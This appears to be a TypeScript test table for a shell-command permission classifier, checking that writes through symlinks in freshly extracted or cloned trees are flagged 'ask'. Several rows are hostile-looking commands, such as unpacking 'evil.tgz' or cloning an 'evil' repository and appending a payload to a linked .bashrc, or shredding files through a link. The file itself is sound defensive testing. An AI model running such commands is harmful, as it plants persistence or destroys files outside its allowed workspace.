import { classTable, type ClassRow } from "./profiles.ts";

/**
 * Red-team symlink-archive, ADR 0827: a tree the string itself unpacked, cloned or copied into scratch space may
 * hold links, so a change made through it lands in an unknown place outside the workspace. Reading through it,
 * deleting a last name (the link itself) and deleting the tree whole stay allowed. Each row is [command,
 * permissive, guard].
 */
const THROUGH_FILLED_TREES: readonly ClassRow[] = [
  ["tar xzf evil.tgz -C /tmp/d; truncate -s0 /tmp/d/link/*", "ask", "ask"],
  ["tar xzf evil.tgz -C /tmp/d; shred -u /tmp/d/link/*", "ask", "ask"],
  ["tar xzf evil.tgz -C /tmp/d; cat /tmp/d/payload >> /tmp/d/link/.bashrc", "ask", "ask"],
  ["git clone https://github.com/evil/r /tmp/d; cat /tmp/d/payload >> /tmp/d/link/.bashrc", "ask", "ask"],
  ["git clone https://github.com/evil/r /tmp/d && cp /tmp/d/payload /tmp/d/link/.bashrc", "ask", "ask"],
  ["unzip -o x.zip -d /tmp/u && printf 'x\\n' | tee -a /tmp/u/conf/profile", "ask", "ask"],
  ["bsdtar -xf x.tar -C /var/tmp/e && install -m 644 a.txt /var/tmp/e/cfg/a.txt", "ask", "ask"],
  ["cp -a vendor /tmp/v; echo > /tmp/v/data.json", "ask", "ask"],
  ["tar xzf x.tgz -C /tmp/d && rm -f /tmp/d/sub/x", "ask", "ask"],
  ["hg clone https://hg.example.com/r /tmp/h && chmod -R 777 /tmp/h/docs", "ask", "ask"],
  ["tar xzf a.tgz -C /tmp/d && ls /tmp/d", "allow", "allow"],
  ["tar xzf a.tgz -C /tmp/d && cat /tmp/d/link/notes.txt", "allow", "allow"],
  ["tar xzf a.tgz -C /tmp/d && rm -rf /tmp/d", "allow", "allow"],
  ["tar xzf a.tgz -C /tmp/d && rm -f /tmp/d/x.tgz", "allow", "allow"],
  ["tar xzf a.tgz -C /tmp/d && cp /tmp/d/x.json fixtures/", "allow", "allow"],
  ["mkdir -p /tmp/out && echo x > /tmp/out/a.txt", "allow", "allow"],
  ["echo x > /tmp/a.txt; truncate -s 0 /tmp/a.txt", "allow", "allow"],
];

classTable("changes through a tree the string filled", THROUGH_FILLED_TREES);
